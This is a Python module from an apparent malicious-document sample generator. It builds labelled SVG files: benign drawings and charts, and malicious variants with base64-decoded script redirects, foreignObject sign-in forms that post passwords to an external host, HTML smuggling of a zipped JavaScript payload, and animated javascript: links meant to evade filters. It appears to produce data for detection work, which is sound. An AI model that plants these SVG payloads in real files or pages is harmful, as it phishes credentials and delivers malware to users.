"""SVG templates: script redirects, foreignObject login forms, smuggling, animated javascript: links; and
ordinary drawings (editor output with a DOCTYPE, metadata and entities)."""

from __future__ import annotations

import base64
import random

from maldoc.samples import ooxml, text
from maldoc.samples.registry import template
from maldoc.samples.templates_web import _script_body

_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_DOCTYPE = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'


def _svg(rng: random.Random, inner: str, *, attrs: str = "") -> bytes:
    w, h = rng.choice(((600, 400), (800, 600), (512, 512)))
    prolog = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n' if rng.random() < 0.7 else ""
    doctype = _DOCTYPE if rng.random() < 0.4 else ""
    return (f'{prolog}{doctype}<svg {_NS} width="{w}" height="{h}" viewBox="0 0 {w} {h}"{attrs}>\n'
            f'<rect width="100%" height="100%" fill="#{rng.randrange(0xffffff):06x}"/>\n{inner}\n</svg>\n').encode()


def _lure_text(rng: random.Random) -> str:
    return f'<text x="40" y="60" font-size="22">{text.lure(rng)[:60]}</text>'


@template("svg_script_redirect", "malicious", "svg", ("svg_script", "urls"),
          note="script (or onload) that decodes a URL and sends the reader to it")
def svg_script_redirect(rng: random.Random) -> tuple[str, bytes]:
    url = text.inert_url(rng, ext=rng.choice((".php", ".html", "")))
    victim = f"{rng.choice(text.PEOPLE).split()[0].lower()}@{rng.choice(text.RESERVED_NAMES)}"
    encoded = base64.b64encode(url.encode()).decode()
    if rng.random() < 0.5:
        script = f'<script type="text/javascript"><![CDATA[\nvar t = atob("{encoded}");\n' \
                 f'window.location.href = t + "#{base64.b64encode(victim.encode()).decode()}";\n]]></script>'
        return text.stem(rng), _svg(rng, _lure_text(rng) + "\n" + script)
    return text.stem(rng), _svg(rng, _lure_text(rng), attrs=f' onload="window.location.href=atob(\'{encoded}\')"')


@template("svg_foreign_form", "malicious", "svg", ("svg_foreign_html", "html_password_form", "urls"),
          note="foreignObject holding an HTML sign-in form posting to an external host")
def svg_foreign_form(rng: random.Random) -> tuple[str, bytes]:
    action = f"https://{text.host(rng, bad=True)}/{text.ident(rng, 4, 8).lower()}/login.php"
    form = (f'<foreignObject x="40" y="100" width="400" height="220">\n'
            f'<div xmlns="http://www.w3.org/1999/xhtml"><form method="post" action="{action}">'
            f'<input type="email" name="u"/><input type="password" name="p"/><button>Sign in</button>'
            f"</form></div>\n</foreignObject>")
    return text.stem(rng), _svg(rng, _lure_text(rng) + "\n" + form)


@template("svg_smuggling", "malicious", "svg", ("svg_script", "html_smuggling"),
          note="script rebuilding a ZIP from base64 and offering it as a download")
def svg_smuggling(rng: random.Random) -> tuple[str, bytes]:
    inner = ooxml.zip_bytes([(text.ident(rng, 5, 9).lower() + ".js", _script_body(rng, ".js"))])
    blob = base64.b64encode(inner).decode()
    script = (f'<script><![CDATA[\nvar d = atob("{blob}"); var b = new Uint8Array(d.length);\n'
              "for (var i = 0; i < d.length; i++) { b[i] = d.charCodeAt(i); }\n"
              'var f = new Blob([b], {type: "application/zip"}); var a = document.createElementNS('
              '"http://www.w3.org/1999/xhtml", "a");\na.href = URL.createObjectURL(f); '
              f'a.download = "{text.stem(rng)}.zip"; a.click();\n]]></script>')
    return text.stem(rng), _svg(rng, _lure_text(rng) + "\n" + script)


@template("svg_js_link", "malicious", "svg", ("svg_javascript_uri",),
          note="link whose href an <animate>/<set> turns into javascript: (filter evasion)")
def svg_js_link(rng: random.Random) -> tuple[str, bytes]:
    url = text.inert_url(rng)
    code = f"javascript:window.open('{url}')"
    anim = f'<animate attributeName="href" values="{code}"/>' if rng.random() < 0.5 else \
        f'<set attributeName="xlink:href" to="{code}"/>'
    link = f'<a>{anim}<text x="40" y="120" font-size="20">View document</text></a>'
    return text.stem(rng), _svg(rng, _lure_text(rng) + "\n" + link)


@template("svg_drawing", "benign", "svg", note="editor output: DOCTYPE, metadata, gradients, shapes, text")
def svg_drawing(rng: random.Random) -> tuple[str, bytes]:
    shapes = []
    for _ in range(rng.randint(3, 30)):
        x, y, r = rng.randrange(500), rng.randrange(350), rng.randint(5, 60)
        shapes.append(rng.choice((f'<circle cx="{x}" cy="{y}" r="{r}" fill="url(#g)"/>',
                                  f'<rect x="{x}" y="{y}" width="{r}" height="{r // 2 + 1}" stroke="#333"/>',
                                  f'<path d="M{x} {y} l{r} {r} h-{r} z" fill="none" stroke="#09c"/>')))
    meta = ('<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>\n'
            '<defs><linearGradient id="g"><stop offset="0" stop-color="#fc0"/>'
            '<stop offset="1" stop-color="#f60"/></linearGradient></defs>')
    link = f'<a xlink:href="{text.inert_url(rng, bad=False)}"><text x="20" y="380">{text.words(rng, 3)}</text></a>'
    return text.stem(rng), _svg(rng, "\n".join([meta, *shapes, link]))


@template("svg_chart", "benign", "svg", note="chart export with CSS, a title and an Illustrator-style entity")
def svg_chart(rng: random.Random) -> tuple[str, bytes]:
    bars = "\n".join(f'<rect class="bar" x="{40 + i * 50}" y="{300 - v}" width="40" height="{v}"/>'
                     for i, v in enumerate(rng.randint(10, 280) for _ in range(rng.randint(3, 10))))
    body = (f"<title>{text.words(rng, 4)}</title>\n<style>.bar {{ fill: #4a90d9; }}</style>\n{bars}\n"
            f'<text x="40" y="340">{text.words(rng, 6)}</text>')
    svg = _svg(rng, body).decode()
    if rng.random() < 0.5:
        svg = svg.replace("<svg ", '<!DOCTYPE svg [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n<svg ', 1)
    return text.stem(rng), svg.encode()
